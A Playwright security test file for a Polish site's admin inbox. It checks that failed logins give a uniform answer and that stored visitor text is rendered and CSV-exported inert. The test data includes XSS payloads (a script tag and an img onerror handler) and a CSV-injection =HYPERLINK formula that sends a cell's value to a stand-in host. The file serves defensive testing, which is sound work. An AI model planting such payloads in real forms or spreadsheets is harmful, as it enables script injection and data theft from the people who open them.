// The inbox against strangers, where the browser matters: a wrong pair
// answered in the page its script drew, and visitor text shown as inert
// text that runs nothing. What the server alone shows is checked in
// tests/requests/admin-security.spec.ts.
import { expect, test } from "@playwright/test";
import { parseCsv } from "../support/parse-csv";
import { signIn, SIGN_IN_PATH } from "./admin";
import { formTokens, pastTheTimeTrap, TEST_ADMIN, TEST_SITE_URL } from "./site";

const WRONG_PAIR = "Nieprawidłowy e-mail lub hasło.";

test("a wrong password or a wrong e-mail gets the same answer and no session", async ({ page, request }) => {
  // As a page without JavaScript posts it: what was typed comes back, but never the password.
  for (const [email, password] of [
    [TEST_ADMIN.email, "nie to hasło"],
    ["ktos.inny@example.com", TEST_ADMIN.password],
  ] as const) {
    const response = await request.post(SIGN_IN_PATH, { headers: { Origin: TEST_SITE_URL }, form: { email, password }, maxRedirects: 0 });
    expect(response.status()).toBe(400);
    const html = await response.text();
    expect(html).toContain(WRONG_PAIR);
    expect(html).toContain(`value="${email}"`);
    expect(html).not.toContain(password);
    expect(response.headers()["set-cookie"]).toBeUndefined();
  }

  // In the browser.
  await page.goto(SIGN_IN_PATH);
  await page.getByLabel("E-mail").fill(TEST_ADMIN.email);
  await page.getByLabel("Hasło").fill("Hasło testowe panelu 2024");
  await page.getByRole("button", { name: "Zaloguj się" }).click();
  await expect(page.getByRole("alert")).toHaveText(WRONG_PAIR);
  await expect(page.getByLabel("E-mail")).toHaveValue(TEST_ADMIN.email);
  expect((await page.context().cookies()).some((cookie) => cookie.name === "admin-session")).toBe(false);
});

test("a stored <script> and =HYPERLINK(…) are shown as text and exported inert", async ({ page, request }) => {
  const tokens = await pastTheTimeTrap(await formTokens(request));
  const name = `=HYPERLINK("http://zly.example/?d="&A1;"Kliknij ${Date.now()}")`;
  const message = `<script>window.__xss = 1</script><img src="x" onerror="window.__xss = 2"> @SUM(1+1) dzień dobry`;
  expect((await request.post("/kontakt", { form: { name, email: "xss@example.com", message, ...tokens }, maxRedirects: 0 })).status()).toBe(303);

  await signIn(page, "", "/admin");
  const pageErrors: Error[] = [];
  page.on("pageerror", (error) => pageErrors.push(error));
  await page.getByRole("link", { name }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(name);
  await expect(page.getByText(message)).toBeVisible();
  expect(await page.locator("main img, main script").count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(pageErrors).toEqual([]);

  const csv = await page.request.get(`/admin/eksport.csv?q=${encodeURIComponent(name)}`);
  expect(csv.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  const rows = parseCsv((await csv.text()).replace(/^\uFEFF/, ""));
  expect(rows).toHaveLength(2);
  expect(rows[1]![2]).toBe(`'${name}`);
  expect(rows[1]![7]).toBe(message);
});
